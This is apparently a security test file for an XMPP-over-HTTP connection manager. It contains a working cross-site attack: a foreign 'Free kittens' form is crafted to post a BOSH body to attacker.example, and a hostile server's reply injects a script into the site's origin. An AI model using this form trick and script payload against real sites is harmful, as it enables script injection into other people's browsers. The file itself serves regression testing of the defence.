import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { type Boshd, startBoshd } from '../support/boshd.ts';
import { startChromium } from '../support/chromium.ts';
import { type Site, startSite } from '../support/site.ts';
import { startXmppPeer, type XmppPeer } from '../support/xmpp/xmpp-peer.ts';

const DOMAIN = 'attacker.example';
/** Leaves a mark in the origin where it runs. Without a way to log in, boshd would show none of the features. */
const HOSTILE_FEATURES =
  "<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms>" +
  `<script xmlns='http://www.w3.org/1999/xhtml'>localStorage.setItem('owned', 'yes')</script>`;

/**
 * A form that is posted as text/plain is sent as `name=value`, so name and value around a `=` make a whole <body/>.
 * It asks for the attacker's own XMPP domain, and for a reply that a browser would show.
 */
const FORM_PAGE = (action: string) => `<!doctype html><title>Free kittens</title>
  <form method="post" enctype="text/plain" action="${action}">
    <input name='<body xmlns="http://jabber.org/protocol/httpbind" rid="1" to="${DOMAIN}" ver="1.6" wait="1" hold="1" content="text/html" xml:lang="' value='"/>'>
    <button>Kittens!</button>
  </form>`;

let attacker: XmppPeer;
let boshd: Boshd;
let browser: Browser;
const sites: Site[] = [];

beforeAll(async () => {
  attacker = await startXmppPeer({ features: HOSTILE_FEATURES });
  boshd = await startBoshd({
    trustedProxies: ['127.0.0.1'],
    // In the wild it would be found by its SRV record; boshd serves any domain.
    upstream: {
      overrides: { [DOMAIN]: { host: '127.0.0.1', port: attacker.port, tls: 'insecure-none' } },
    },
  });
  browser = await startChromium();
});

afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
  for (const site of sites.splice(0)) await site.stop();
});

afterAll(async () => {
  await browser.close();
  await boshd.stop();
  await attacker.close();
});

/** As a browser that does not say where a request comes from, and how: nothing that boshd could refuse it by. */
const WITHOUT_METADATA = `
  proxy_set_header Origin "";
  proxy_set_header Referer "";
  proxy_set_header Sec-Fetch-Mode "";
  proxy_set_header Sec-Fetch-Site "";
  proxy_set_header Sec-Fetch-Dest "";
  proxy_set_header Sec-Fetch-User "";`;

/** As a connection manager that does not protect its replies. */
const WITHOUT_PROTECTION = `${WITHOUT_METADATA}
  proxy_hide_header Content-Security-Policy;
  proxy_hide_header X-Content-Type-Options;`;

/** The visitor of the foreign page posts its form to the site; then, did a script run in the site's origin? */
async function attack(proxy: string): Promise<{ readonly status: number; readonly isOwned: boolean }> {
  const site = await startSite({
    files: { 'index.html': '<title>Site</title>' },
    boshd: boshd.origin,
    proxy,
  });
  const files = { 'index.html': FORM_PAGE(`${site.origin}/http-bind`) };
  const foreign = await startSite({ files, host: 'localhost' });
  sites.push(site, foreign);
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${foreign.origin}/index.html`);
  const [reply] = await Promise.all([page.waitForResponse(`${site.origin}/http-bind`), page.click('button')]);
  await page.waitForLoadState();
  expect(page.url()).toBe(`${site.origin}/http-bind`);
  return { status: reply.status(), isOwned: await isOwned(page, site) };
}

async function isOwned(page: Page, { origin }: Site): Promise<boolean> {
  await page.goto(`${origin}/index.html`);
  return (await page.evaluate<string | null>(`localStorage.getItem('owned')`)) === 'yes';
}

test('a form that a foreign page posts is refused before anything is dialled', async () => {
  const connections = attacker.connections();
  expect(await attack('')).toEqual({ status: 403, isOwned: false });
  expect(attacker.connections()).toBe(connections);
});

test('a reply with a script of the XMPP server does not run it, whatever it was asked by', async () => {
  const connections = attacker.connections();
  expect(await attack(WITHOUT_METADATA)).toEqual({ status: 200, isOwned: false });
  expect(attacker.connections()).toBe(connections + 1);
});

test('without this protection the script would run: the attack is a real one', async () => {
  expect(await attack(WITHOUT_PROTECTION)).toEqual({ status: 200, isOwned: true });
});
